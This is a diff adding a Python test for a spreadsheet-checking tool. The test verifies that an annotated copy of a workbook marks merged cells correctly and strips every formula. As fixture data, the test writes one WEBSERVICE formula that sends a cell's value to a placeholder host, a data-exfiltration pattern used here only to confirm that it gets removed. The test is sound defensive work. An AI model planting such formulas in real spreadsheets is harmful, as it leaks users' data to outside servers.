@@ -223,3 +223,29 @@ def test_cells_hidden_by_a_merge_and_formulas_without_a_result_are_explained(tmp
     assert ("comite.xlsx, hoja «Integrantes», fila 4, columna «DNI»: tiene la fórmula «=TEXT(9876543,\"00000000\")», "
             "pero el archivo no guarda su resultado. Ábralo en Excel o LibreOffice y guárdelo de nuevo (así se "
             "guardan los resultados), o escriba el valor en vez de la fórmula.") in messages
+
+
+def test_the_marked_copy_marks_a_merge_on_its_first_cell_and_keeps_no_formula(tmp_path):
+    """A problem in a merged cell broke the copy (a merged cell takes no comment), and the
+    sender's formulas stayed live in a workbook cddgen wrote; the copy now holds values."""
+    from openpyxl import load_workbook
+
+    from generator.errors import Issue
+    from generator.render.marked import PROBLEM_FILL, write_marked_copy
+
+    source = tmp_path / "comite.xlsx"
+    workbook = load_workbook(EXAMPLES / "comite.xlsx")
+    members = workbook["Integrantes"]
+    members["D3"] = None
+    members.merge_cells("D2:D3")
+    members["E4"] = '=WEBSERVICE("http://ejemplo.invalid/?"&B2)'
+    workbook.save(source)
+    issues = [Issue("está vacía.", file=str(source), sheet="Integrantes", row=3, column="Cargo del puesto",
+                    cell="D3"),
+              Issue("tiene una fórmula.", file=str(source), sheet="Integrantes", row=4, column="DNI", cell="E4")]
+    copy = write_marked_copy(source, issues, tmp_path / "comite.observado.xlsx")
+    marked = load_workbook(copy)["Integrantes"]
+    assert marked["D2"].fill == PROBLEM_FILL and "está vacía." in marked["D2"].comment.text
+    assert marked["E4"].fill == PROBLEM_FILL and marked["E4"].data_type != "f" and marked["E4"].value is None
+    assert all(cell.data_type != "f" for sheet in load_workbook(copy).worksheets
+               for row in sheet.iter_rows() for cell in row)
